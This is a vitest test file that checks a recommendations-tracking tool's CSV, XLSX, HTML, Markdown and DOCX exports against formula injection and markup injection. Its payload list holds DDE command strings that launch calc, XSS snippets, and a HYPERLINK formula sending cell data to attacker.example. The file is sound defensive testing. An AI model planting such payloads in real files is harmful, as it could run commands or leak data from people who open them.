import { existsSync } from "node:fs";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { unzipSync, strFromU8 } from "fflate";
import Papa from "papaparse";
import { SaxesParser } from "saxes";
import { beforeAll, describe, expect, test } from "vitest";
import { readMatrixFile } from "../../src/node/index.js";
import { renderRecommendationsCsv } from "../../src/report/csv.js";
import { recommendationKey } from "../../src/schema/key.js";
import type { Recommendation } from "../../src/schema/recommendation.js";
import type { TrackedState } from "../../src/schema/status.js";
import { badDir, root } from "./manifest.js";

// Every export a person opens in Excel, Word or a browser, fed with recommendations whose every text field
// is hostile: no cell a spreadsheet would run as a formula (= + - @ tab CR at the start), no markup that
// a browser would run, no field code Word would run. Each writer is checked when its module exists;
// missing ones are listed by the last test.

const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<img src=x onerror="alert(1)">',
  "<script>alert('x')</script>",
  "| pipe | table | breaker |",
  "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" }",
];
const FORMULA_START = /^[=+\-@\t\r]/;

let recs: Recommendation[] = [];
let states = new Map<string, TrackedState>();

beforeAll(async () => {
  const parsed = await readMatrixFile(join(badDir, "csv-formula-injection.csv"), { file: "csv-formula-injection.csv" });
  expect(parsed.recommendations.length).toBeGreaterThanOrEqual(7);
  // Every text field a writer may print, hostile.
  recs = parsed.recommendations.map((r, i) => {
    const p = PAYLOADS[i % PAYLOADS.length]!;
    return {
      ...r,
      text: `${p} ${r.text}`.trim(),
      stateUnderReview: i === 0 ? "=1+1" : "Uganda",
      cycle: 3,
      documentSymbol: "A/HRC/34/10",
      recommendingStates: [p, "Denmark"],
      cluster: { code: null, name: p },
      themes: [{ code: null, name: p, source: "matrix" as const }],
      affectedPersons: [{ name: p, source: "matrix" as const }],
      assessment: p,
      status: p,
      institutions: [p, "@Ministry of Justice"],
      positionRaw: i % 2 ? "=Supported" : r.positionRaw,
    };
  });
  const { createEvent } = await import("../../src/track/event.js");
  const { currentStates } = await import("../../src/track/ledger.js");
  const events = recs.map((r, i) =>
    createEvent(
      {
        recommendation: recommendationKey(r),
        status: "in-progress",
        statusRaw: PAYLOADS[i % PAYLOADS.length]!,
        date: "2025-03-01",
        institutions: [PAYLOADS[(i + 1) % PAYLOADS.length]!],
        lead: PAYLOADS[(i + 2) % PAYLOADS.length]!,
        action: PAYLOADS[(i + 3) % PAYLOADS.length]!,
        evidence: ["javascript:alert(1)", PAYLOADS[i % PAYLOADS.length]!],
        source: { reporter: "=cmd|' /C calc'!A0", file: "x.xlsx" },
      },
      { recordedAt: "2025-03-02T10:00:00.000Z" },
    ),
  );
  states = currentStates(events);
});

/** Every cell of every sheet (hidden ones too): its type and text. */
async function xlsxCells(bytes: Uint8Array): Promise<{ where: string; type: ExcelJS.ValueType; text: string }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const out: { where: string; type: ExcelJS.ValueType; text: string }[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        const text = typeof v === "string" ? v : v && typeof v === "object" && "richText" in v ? v.richText.map((t) => t.text).join("") : String(v ?? "");
        out.push({ where: `${ws.name}!${cell.address}`, type: cell.type, text });
      }),
    );
  }
  return out;
}

function expectSafeCells(cells: { where: string; type: ExcelJS.ValueType; text: string }[]): void {
  expect(cells.length).toBeGreaterThan(0);
  for (const c of cells) {
    expect(c.type, `${c.where} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
    expect(c.text, c.where).not.toMatch(FORMULA_START);
  }
  // The payloads are there, as text.
  expect(cells.some((c) => c.text.startsWith("'=HYPERLINK("))).toBe(true);
}

/** Text of the cells of HTML tables, entities decoded. */
function htmlCellTexts(html: string): string[] {
  return [...html.matchAll(/<t[dh]\b[^>]*>([\s\S]*?)<\/t[dh]>/g)].map((m) =>
    m[1]!.replace(/<[^>]+>/g, "").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&").trim(),
  );
}

const exists = (rel: string) => existsSync(join(root, rel));
const missing: string[] = [];

describe("exports neutralise formula injection and escape markup", () => {
  test("CSV (src/report/csv.ts)", () => {
    const csv = renderRecommendationsCsv(recs);
    const rows = Papa.parse<string[]>(csv.replace(/^\ufeff/, ""), { header: false, skipEmptyLines: true }).data;
    expect(rows.length).toBe(recs.length + 1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    expect(rows[1]![1]).toMatch(/^'=HYPERLINK\(/);
  });

  test("XLSX recommendations table (src/xlsx/recommendations.ts)", async () => {
    const { writeRecommendationsXlsx } = await import("../../src/xlsx/recommendations.js");
    expectSafeCells(await xlsxCells(await writeRecommendationsXlsx(recs)));
  });

  test.skipIf(!exists("src/xlsx/report-matrix.ts"))("XLSX report matrix (src/xlsx/report-matrix.ts)", async () => {
    const { writeReportMatrix } = await import("../../src/xlsx/report-matrix.js");
    expectSafeCells(await xlsxCells(await writeReportMatrix(recs, { states })));
  });

  test.skipIf(!exists("src/xlsx/track-workbook.ts") || !exists("src/track/workbook.ts"))("XLSX tracking workbooks (src/xlsx/track-workbook.ts)", async () => {
    const { writeTrackWorkbook } = await import("../../src/xlsx/track-workbook.js");
    const { planTrackExport } = await import("../../src/track/workbook.js");
    const plans = planTrackExport(recs, states, { round: "2025-03-01T09-00-00Z", exportedAt: "2025-03-01T09:00:00.000Z" });
    expect(plans.length).toBeGreaterThan(0);
    for (const plan of plans) {
      const cells = await xlsxCells(await writeTrackWorkbook(plan));
      for (const c of cells) {
        expect(c.type, `${c.where} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
        expect(c.text, `${plan.fileName} ${c.where}`).not.toMatch(FORMULA_START);
      }
    }
  });

  test.skipIf(!exists("src/report/html.ts"))("HTML report (src/report/html.ts)", async () => {
    const { htmlReport } = await import("../../src/report/html.js");
    const html = htmlReport(recs, { states });
    expect(html).not.toMatch(/<script\b/i);
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/\son\w+\s*=\s*["']?alert/i);
    expect(html).not.toMatch(/href\s*=\s*["']?javascript:/i);
    expect(html).toContain("&lt;img src=x onerror=");
  });

  // Pending (src/report/html.ts, another engineer's): table cells copied from a browser into Excel are
  // read as formulas too. Fix: pass every cell text through neutralizeFormula before escapeHtml, as
  // src/xlsx/report-matrix.ts does. When this passes, make it a plain `test`.
  test.skipIf(!exists("src/report/html.ts"))("HTML report: table cells neutralised (fixed in html.ts)", async () => {
    const { htmlReport } = await import("../../src/report/html.js");
    const cells = htmlCellTexts(htmlReport(recs, { states }));
    expect(cells.length).toBeGreaterThan(0);
    for (const c of cells) expect(c).not.toMatch(FORMULA_START);
  });

  test.skipIf(!exists("src/report/markdown.ts"))("Markdown report (src/report/markdown.ts)", async () => {
    const { markdownReport } = await import("../../src/report/markdown.js");
    const md = markdownReport(recs, { states });
    expect(md).not.toMatch(/<script\b/i);
    expect(md).not.toMatch(/<img\b/i);
    // Tables keep their shape: every row of a table has its header's number of cells.
    const split = (line: string) => line.replace(/\\\\/g, "").replace(/\\\|/g, "").split("|").length;
    const lines = md.split("\n");
    for (let i = 1; i < lines.length; i++) {
      if (/^\|[\s:|-]+\|$/.test(lines[i]!) && lines[i - 1]!.startsWith("|")) {
        const width = split(lines[i - 1]!);
        for (let k = i + 1; k < lines.length && lines[k]!.startsWith("|"); k++) expect(split(lines[k]!), lines[k]).toBe(width);
      }
    }
  });

  // Pending (src/report/markdown.ts): a Markdown table rendered and pasted into Excel reads formulas.
  // Fix: neutralizeFormula on each cell before escapeMarkdown.
  test.skipIf(!exists("src/report/markdown.ts"))("Markdown report: table cells neutralised (fixed in markdown.ts)", async () => {
    const { markdownReport } = await import("../../src/report/markdown.js");
    const lines = markdownReport(recs, { states }).split("\n");
    const cells = lines.filter((l) => l.startsWith("|") && !/^\|[\s:|-]+\|$/.test(l)).flatMap((l) => l.replace(/\\\|/g, "\u0000").split("|").slice(1, -1).map((c) => c.replace(/\u0000/g, "|").trim()));
    expect(cells.length).toBeGreaterThan(0);
    for (const c of cells) expect(c.replace(/^\\/, ""), c).not.toMatch(FORMULA_START);
  });

  test.skipIf(!exists("src/docx/skeleton.ts"))("DOCX national-report skeleton (src/docx/skeleton.ts)", async () => {
    const { writeSkeletonDocx } = await import("../../src/docx/skeleton.js");
    const bytes = await writeSkeletonDocx(recs, { states });
    const files = unzipSync(bytes);
    const xml = strFromU8(files["word/document.xml"]!);
    // Well-formed: nothing from a recommendation escaped the XML.
    new SaxesParser().write(xml).close();
    // Field codes are Word's own (page numbers, tables of contents), never text from a file.
    const fields = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)<\/w:instrText>|w:instr="([^"]*)"/g)].map((m) => m[1] ?? m[2] ?? "");
    for (const f of fields) expect(f).not.toMatch(/DDE|cmd|HYPERLINK "http:\/\/attacker/i);
    const texts = [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]!.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&"));
    expect(texts.length).toBeGreaterThan(0);
    expect(texts.some((t) => t.includes('<img src=x onerror="alert(1)">'))).toBe(true);
  });

  // Pending (src/docx/skeleton.ts): a table pasted from Word into Excel is read as formulas too. Fix:
  // neutralizeFormula on the text that starts each table cell.
  test.skipIf(!exists("src/docx/skeleton.ts"))("DOCX skeleton: table cells neutralised (fixed in skeleton.ts)", async () => {
    const { writeSkeletonDocx } = await import("../../src/docx/skeleton.js");
    const xml = strFromU8(unzipSync(await writeSkeletonDocx(recs, { states }))["word/document.xml"]!);
    const cellTexts = [...xml.matchAll(/<w:tc>[\s\S]*?<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]!.replace(/&amp;/g, "&"));
    for (const c of cellTexts) expect(c, c).not.toMatch(FORMULA_START);
  });

  test("writers not there yet are listed", () => {
    for (const rel of ["src/report/csv.ts", "src/xlsx/recommendations.ts", "src/xlsx/report-matrix.ts", "src/xlsx/track-workbook.ts", "src/report/html.ts", "src/report/markdown.ts", "src/docx/skeleton.ts"]) if (!exists(rel)) missing.push(rel);
    // Every writer the issue names exists today; a new one must be added above.
    expect(missing).toEqual([]);
  });
});
